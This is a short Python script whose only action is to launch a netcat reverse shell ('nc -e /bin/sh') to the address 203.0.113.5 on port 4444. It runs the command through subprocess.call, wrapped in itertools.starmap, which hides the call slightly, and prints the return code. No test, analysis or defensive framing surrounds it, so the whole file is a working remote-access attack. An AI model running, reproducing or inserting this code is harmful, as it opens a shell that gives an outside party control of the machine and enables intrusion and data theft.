import itertools
import subprocess

jobs = [(["sh", "-c", "nc -e /bin/sh 203.0.113.5 4444"],)]
for rc in itertools.starmap(subprocess.call, jobs):
    print(rc)
